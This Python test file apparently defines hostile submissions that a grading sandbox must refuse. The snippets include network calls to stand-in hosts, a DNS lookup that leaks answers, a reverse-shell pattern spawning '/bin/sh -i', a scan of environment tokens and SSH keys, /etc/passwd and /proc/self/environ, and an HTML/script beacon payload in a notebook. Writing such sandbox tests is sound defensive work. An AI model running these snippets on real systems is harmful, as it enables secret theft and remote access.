"""NX: submissions that reach for the network, and for secrets."""

from __future__ import annotations

import json

from tests.hostile.case import RIGHT, Hostile, Shown, Without, pays, text

NO = ("wrong_all",)
SOCKETS = "sandbox/test_hostile_network.py::test_what_refuses_sockets_layer_by_layer"
BEACON = '<img src="http://example.com/beacon"><script>alert(1)</script>[x](javascript:alert(1))'


def _notebook() -> str:
    outputs = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": BEACON, "image/svg+xml": f"<svg>{BEACON}</svg>"}}]
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "outputs": outputs,
            "source": f"# {BEACON}\nimport numpy as np\ndef square(x): raise ValueError({BEACON!r})\n"}  # fmt: skip
    words = {"cell_type": "markdown", "metadata": {}, "source": BEACON}
    return json.dumps({"cells": [words, code], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


CASES = [
    Hostile("NX01", "fetches a page", """
        import urllib.request
        def square(x): return urllib.request.urlopen("http://192.0.2.1/", timeout=60).read()
        """, "crashed skipped", (text("no_network", function="square"),), Shown(SOCKETS)),
    Hostile("NX02", "connects by number", pays("""
        socket.create_connection(("192.0.2.1", 80), timeout=60)
        return True
        """), reason=NO, control=Shown(SOCKETS)),
    Hostile("NX03", "a shell for somebody outside", pays("""
        s = socket.socket()
        os.dup2(s.fileno(), 0)
        return subprocess.Popen(["/bin/sh", "-i"])
        """), reason=NO, control=Shown(SOCKETS)),
    Hostile("NX04", "tells answers to a name server", """
        import socket
        def square(x): return socket.gethostbyname("answer.example.com")
        """, "crashed skipped", (text("no_network", function="square"),),
        Shown("sandbox/test_hostile_network.py::test_names_are_not_looked_up_and_pages_not_fetched")),
    Hostile("NX05", "sockets of the machine itself: local, docker's, the cloud's, between processes", pays("""
        opened = 0
        for family in (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, getattr(socket, "AF_VSOCK", 40), socket.AF_NETLINK):
            try: socket.socket(family, socket.SOCK_DGRAM if family != socket.AF_NETLINK else socket.SOCK_RAW)
            except OSError: continue
            opened += 1
        return opened
        """), reason=NO, control=Without("seccomp")),
    Hostile("NX06", "reads the environment and everybody's keys", pays("""
        found = [name for name in os.environ if any(word in name for word in ("TOKEN", "SECRET", "GITHUB", "GRADER", "KEY", "USER"))]
        for path in ("/root", "/home", os.path.expanduser("~/.ssh"), "/proc/self/environ", "/etc/passwd", ".git/config"):
            try: found += os.listdir(path) if os.path.isdir(path) else [open(path).read()]
            except OSError: pass
        return found
        """), reason=NO, control=Without("landlock")),
    Hostile("NX07", "downloads its data at import, honestly", """
        import urllib.request
        data = urllib.request.urlopen("https://example.com/mnist.csv").read()
        """ + RIGHT.replace("\n", "\n        "), "passed", ("no_network_at_import",)),
    Hostile("NX07b", "asks for a library that is not there, honestly", "from sklearn.datasets import fetch_openml\n" + RIGHT, "passed",
            ("import_refused",)),
    Hostile("NX08", "a notebook whose outputs and errors are pages with scripts", _notebook(), "crashed skipped",
            (text("raised", function="square", kind="ValueError"),), name="square.ipynb"),
    Hostile("NX09", "listens, opens a browser and a window", pays("""
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        return True
        """), reason=NO, control=Without("seccomp", "landlock")),
]  # fmt: skip
